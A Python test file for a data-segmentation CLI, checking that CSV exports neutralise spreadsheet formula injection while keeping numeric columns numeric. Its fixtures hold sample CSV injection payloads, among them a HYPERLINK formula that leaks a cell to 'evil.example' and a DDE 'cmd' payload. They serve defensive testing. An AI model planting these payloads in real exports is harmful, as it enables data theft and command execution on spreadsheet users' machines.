"""Spreadsheet safety: text cells that a spreadsheet would run as a formula are prefixed
with a single quote in CSV exports (OWASP CSV injection; ASVS 1.2.10), numeric columns
stay numeric, and ``--raw-csv`` turns it off."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest
from conftest import PRE_SWITCH_FEATURES, TINY_PRODUCTS, write_tables
from typer.testing import CliRunner

from segtui.cli import app
from segtui.engine.output.writers import neutralise_formulas

runner = CliRunner()

HOSTILE_NAMES = {
    "C1": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "C2": "+1+2",
    "C3": "-1+2",
    "C4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C5": "\tTabbed",
    "C6": "\rCarriage",
}
CUSTOMERS = (
    "CustomerID,CustomerName,Region,SignupDate\n"
    + "".join(
        f'{cid},"{name.replace(chr(34), chr(34) * 2)}",Europe,2024-01-01\n'
        for cid, name in HOSTILE_NAMES.items()
    )
    + "C7,Plain Name,=Asia,2024-01-01\n"
)
# C3 returned more than it bought: its total_spend is negative and must stay a number.
TRANSACTIONS = """TransactionID,CustomerID,ProductID,TransactionDate,Quantity,TotalValue,Price
T1,C1,P1,2024-01-05,4,10.0,2.5
T2,C2,P2,2024-02-10,1,40.0,40
T3,C3,P2,2024-03-01,1,40.0,40
T4,C3,P2,2024-03-02,-2,-80.0,40
T5,C4,P3,2024-04-01,2,24.0,12
T6,C5,P3,2024-05-01,1,12.0,12
T7,C6,P1,2024-06-01,10,25.0,2.5
T8,C7,P2,2024-06-02,3,120.0,40
"""


@pytest.fixture()
def hostile_dir(tmp_path: Path) -> Path:
    return write_tables(tmp_path / "src", CUSTOMERS, TINY_PRODUCTS, TRANSACTIONS)


def read_exact(path: Path) -> str:
    """File text without newline translation (a lone carriage return must survive)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def rows(text: str) -> dict[str, dict[str, str]]:
    return {row["CustomerID"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_every_owasp_trigger_character_is_neutralised(start: str) -> None:
    frame = pl.DataFrame({"name": [f"{start}1+2", f"a{start}"]})
    assert neutralise_formulas(frame)["name"].to_list() == [f"'{start}1+2", f"a{start}"]


def test_numeric_columns_are_left_numeric_even_when_negative() -> None:
    frame = pl.DataFrame({"total_spend": [-40.0, 3.5], "segment": [-1, 0], "name": ["-x", "y"]})
    out = neutralise_formulas(frame)
    assert out.schema == frame.schema
    assert out["total_spend"].to_list() == [-40.0, 3.5] and out["segment"].to_list() == [-1, 0]
    assert out["name"].to_list() == ["'-x", "y"]


def test_empty_and_null_text_cells_are_untouched() -> None:
    frame = pl.DataFrame({"name": ["", None, "'already quoted"]})
    assert neutralise_formulas(frame)["name"].to_list() == ["", None, "'already quoted"]


def test_segments_csv_neutralises_hostile_names_and_regions(hostile_dir: Path, tmp_path) -> None:
    out = tmp_path / "segments.csv"
    result = runner.invoke(
        app,
        [
            "run",
            str(hostile_dir),
            "-k",
            "2",
            "-f",
            ",".join(PRE_SWITCH_FEATURES),
            "-q",
            "--out",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.stderr
    by_id = rows(read_exact(out))
    for cid, name in HOSTILE_NAMES.items():
        assert by_id[cid]["CustomerName"] == "'" + name
    # Region is the region feature's input column: written once, as `region` (issue 15).
    assert by_id["C7"]["region"] == "'=Asia" and "Region" not in by_id["C7"]
    assert by_id["C7"]["CustomerName"] == "Plain Name"


def test_segments_csv_keeps_negative_numbers_as_numbers(hostile_dir: Path, tmp_path) -> None:
    out = tmp_path / "segments.csv"
    runner.invoke(
        app,
        [
            "run",
            str(hostile_dir),
            "-k",
            "2",
            "-f",
            ",".join(PRE_SWITCH_FEATURES),
            "-q",
            "--out",
            str(out),
        ],
    )
    c3 = rows(read_exact(out))["C3"]
    assert c3["total_spend"] == "-40.0" and c3["total_quantity"] == "-1"
    assert pl.read_csv(out)["total_spend"].dtype == pl.Float64


def test_csv_on_stdout_is_neutralised_too(hostile_dir: Path) -> None:
    result = runner.invoke(app, ["run", str(hostile_dir), "-k", "2", "--out", "-"])
    assert result.exit_code == 0, result.stderr
    assert rows(result.stdout)["C2"]["CustomerName"] == "'+1+2"


def test_raw_csv_writes_text_exactly(hostile_dir: Path, tmp_path) -> None:
    out = tmp_path / "segments.csv"
    args = ["run", str(hostile_dir), "-k", "2", "-q", "--raw-csv", "--out", str(out)]
    assert runner.invoke(app, args).exit_code == 0
    by_id = rows(read_exact(out))
    assert {cid: by_id[cid]["CustomerName"] for cid in HOSTILE_NAMES} == HOSTILE_NAMES


@pytest.mark.parametrize("ext", ["json", "parquet"])
def test_non_spreadsheet_formats_keep_text_exactly(hostile_dir: Path, tmp_path, ext) -> None:
    out = tmp_path / f"segments.{ext}"
    assert (
        runner.invoke(
            app,
            [
                "run",
                str(hostile_dir),
                "-k",
                "2",
                "-f",
                ",".join(PRE_SWITCH_FEATURES),
                "-q",
                "--out",
                str(out),
            ],
        ).exit_code
        == 0
    )
    frame = pl.read_parquet(out) if ext == "parquet" else pl.DataFrame(json.loads(out.read_text()))
    names = dict(zip(frame["CustomerID"], frame["CustomerName"], strict=True))
    assert {cid: names[cid] for cid in HOSTILE_NAMES} == HOSTILE_NAMES
